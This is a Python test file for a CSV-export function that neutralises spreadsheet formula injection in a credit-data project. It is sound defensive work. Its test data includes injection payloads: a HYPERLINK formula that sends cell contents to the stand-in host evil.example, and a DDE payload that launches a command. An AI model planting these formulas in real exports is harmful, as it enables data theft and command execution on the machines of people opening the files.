"""The CSV-export rule (docs/data-contract.md §17): a text cell that a spreadsheet would run as a formula gets a
leading ', and numbers stay numbers."""
from __future__ import annotations

import io

import pandas as pd
import pytest

from pucredit.contract.csv_export import csv_text, safe_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"audit")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
            "=cmd|' /C calc'!A0", "-", "+"]
PLAIN = ["JJ0001", "小微企业", "-5", "+0.50", "-1,234.56", "-12.5%", "1e5", "", "a=b", " =1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_starts_are_neutralised(cell):
    assert safe_cell(cell).startswith("'") and safe_cell(cell)[1:].replace("\n", "\r") == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_other_text_and_plain_numbers_are_unchanged(cell):
    assert safe_cell(cell) == cell


@pytest.mark.parametrize("value", [-5, -5.5, None, True, pd.Timestamp("2024-06-30")])
def test_values_that_are_not_text_are_unchanged(value):
    assert safe_cell(value) is value


def test_csv_text_keeps_numbers_and_neutralises_every_text_cell():
    frame = pd.DataFrame({"loan_id": ["=1+1", "JJ2"], "balance_cny": [-5.0, 1e6], "days": [-1, 3],
                          "note": pd.array(["@x", None], dtype="string"), "=label": ["a", "b"]},
                         index=pd.Index(["-B1", "B2"], name="bank_id"))
    back = pd.read_csv(io.StringIO(csv_text(frame, index=True)), index_col=0)
    assert list(back.index) == ["'-B1", "B2"] and list(back.columns)[-1] == "'=label"
    assert back["loan_id"].tolist() == ["'=1+1", "JJ2"] and back["note"].iloc[0] == "'@x"
    assert back["balance_cny"].tolist() == [-5.0, 1e6] and back["days"].tolist() == [-1, 3]
    assert csv_text(frame.drop(columns="=label").iloc[[1]]) == "loan_id,balance_cny,days,note\nJJ2,1000000.0,3,\n"


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    text = csv_text(pd.DataFrame({"loan_id": ["x\r=HYPERLINK(1)", "ok"]}))
    assert pd.read_csv(io.StringIO(text))["loan_id"].tolist() == ["x\n=HYPERLINK(1)", "ok"]
    assert "\r" not in text
